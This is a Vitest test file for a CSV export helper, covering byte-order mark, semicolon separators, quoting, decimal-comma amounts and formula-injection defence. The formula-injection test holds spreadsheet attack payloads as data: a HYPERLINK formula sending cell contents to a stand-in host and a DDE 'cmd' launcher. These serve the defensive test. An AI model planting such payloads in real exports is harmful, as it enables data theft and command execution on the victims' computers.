import { describe, expect, it } from 'vitest';
import { csvAmount, csvCell, csvDocument, type CsvColumn } from './csv';

interface Person {
  name: string;
  phone: string;
}

const columns: CsvColumn<Person>[] = [
  { header: 'Nombre', cell: (person) => person.name },
  { header: 'Teléfono', cell: (person) => person.phone },
];

describe('csvDocument', () => {
  it('starts with the UTF-8 byte-order mark, separates cells by ; and ends every row with CRLF', () => {
    const text = csvDocument(columns, [
      { name: 'Estefanía Núñez', phone: '1145678901' },
      { name: 'José', phone: '' },
    ]);
    expect(text).toBe('\uFEFFNombre;Teléfono\r\nEstefanía Núñez;1145678901\r\nJosé;\r\n');
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('writes only the headers when there are no rows', () => {
    expect(csvDocument(columns, [])).toBe('\uFEFFNombre;Teléfono\r\n');
  });
});

describe('csvCell', () => {
  it('quotes a cell holding the separator, a quote or a line break, doubling its quotes', () => {
    expect(csvCell('Pérez; Ana')).toBe('"Pérez; Ana"');
    expect(csvCell('Taller "Raíces"')).toBe('"Taller ""Raíces"""');
    expect(csvCell('línea 1\r\nlínea 2')).toBe('"línea 1\r\nlínea 2"');
    expect(csvCell('una\nlínea')).toBe('"una\nlínea"');
    // A comma is a decimal comma to Spanish Excel, not a separator: no quotes needed.
    expect(csvCell('55000,00')).toBe('55000,00');
  });

  it('neutralises a cell a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1;"Ver")')).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1;""Ver"")"`,
    );
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('-2+3+cmd|x!A1')).toBe("'-2+3+cmd|x!A1");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('+54 11 =A1')).toBe("'+54 11 =A1");
    expect(csvCell('+')).toBe("'+");
  });

  it('keeps a phone number readable, its plus as typed', () => {
    expect(csvCell('+54 11 4567-8901')).toBe('+54 11 4567-8901');
    expect(csvCell('+1 (555) 010.9999')).toBe('+1 (555) 010.9999');
    expect(csvCell('1145678901')).toBe('1145678901');
    // Letters are not a phone: a name such as '+ Ana' is neutralised.
    expect(csvCell('+ Ana')).toBe("'+ Ana");
  });

  it('leaves other text alone', () => {
    expect(csvCell('Ana María')).toBe('Ana María');
    expect(csvCell('ana@example.com')).toBe('ana@example.com');
    expect(csvCell('')).toBe('');
  });
});

describe('csvAmount', () => {
  it('writes an amount with a decimal comma and no thousands separator', () => {
    expect(csvAmount(55000)).toBe('55000,00');
    expect(csvAmount(40.5)).toBe('40,50');
  });
});
